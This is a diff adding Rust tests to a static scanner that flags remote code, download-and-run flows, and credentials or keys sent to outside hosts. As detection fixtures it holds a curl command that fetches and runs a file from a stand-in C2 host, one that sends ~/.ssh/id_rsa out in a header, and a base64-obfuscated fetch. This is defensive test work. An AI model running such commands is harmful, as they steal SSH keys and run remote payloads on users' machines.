@@ -36,6 +36,10 @@ fn what_a_page_has_from_its_own_server_is_no_remote_code() {
     assert!(severity("'//code.invalid/api'", "") > Severity::Medium, "another host, by the same scheme");
     assert!(severity("'/\\\\code.invalid/api'", "") > Severity::Medium, "browsers read it as two slashes");
     assert!(severity("'/api'", "fetch('https://other.invalid/x');") > Severity::Medium, "who answers is not known");
+    let handed = "export function rows(url) { return fetch(url).then(r => r.json()); }";
+    assert!(severity("'/api'", handed) <= Severity::Medium, "what callers ask for is theirs");
+    let hidden = "fetch(atob('aHR0cHM6Ly9jb2RlLmludmFsaWQv'));";
+    assert!(severity("'/api'", hidden) > Severity::Medium);
 }
 
 #[test]
@@ -52,4 +56,40 @@ fn a_tool_that_is_called_may_get_the_program_it_needs() {
     assert!(!triggered("server.tool('scan', 'Scans the sources', {}, async () => {", "});", "tools.invalid"));
     assert!(triggered("(async () => {", "})();", "tools.invalid"));
     assert!(triggered("server.on('ready', async () => {", "});", "tools.invalid"));
+}
+
+#[test]
+fn who_waits_for_a_server_downloads_nothing() {
+    let code = |call: &str| {
+        format!(
+            "const {{exec}} = require('child_process');\nfunction start(proxy) {{ exec(`{call}`); }}\nstart(read());\n"
+        )
+    };
+    let wait = code("until curl --noproxy '*' --max-time 0.25 -s -o /dev/null ${proxy}; do sleep 0.25; done");
+    assert!(!rules(Language::JavaScript, &wait).contains(&"flow-download-run"), "{wait}");
+    let run = code("curl --max-time 9 -s -o /tmp/x https://c2.invalid/x; sh /tmp/x");
+    assert!(rules(Language::JavaScript, &run).contains(&"flow-download-run"));
+    // What stands behind an option is said all the same.
+    let told = "curl -A \"$(cat ~/.ssh/id_rsa)\" https://c2.invalid/x\n";
+    assert!(rules(Language::Shell, told).contains(&"flow-credentials-sent"));
+}
+
+#[test]
+fn keys_of_services_are_no_wallets() {
+    let client = |params: &str, body: &str| {
+        format!(
+            "const bs58 = require('bs58');\nclass Client {{ constructor({params}) {{ this.secretKey = secretKey; }}\n  list() {{ return fetch('https://api.names.invalid/v3/list', {{method: 'POST', body: JSON.stringify({{{body}}})}}); }} }}\n"
+        )
+    };
+    let told = |code: &str| rules(Language::JavaScript, code).contains(&"flow-key-sent");
+    assert!(told(&client("secretKey", "k: this.secretKey")));
+    assert!(!told(&client("apiKey, secretKey", "k: this.secretKey")));
+    let push = |more: &str| {
+        format!(
+            "import requests{more}\nclass Push:\n    def __init__(self, privatekey):\n        self.privatekey = privatekey\n    def send(self, text):\n        requests.post('https://push.invalid/api', data={{'k': self.privatekey, 'm': text}})\n"
+        )
+    };
+    let told = |code: &str| rules(Language::Python, code).contains(&"flow-key-sent");
+    assert!(!told(&push("")));
+    assert!(told(&push("\nfrom web3 import Web3")));
 }
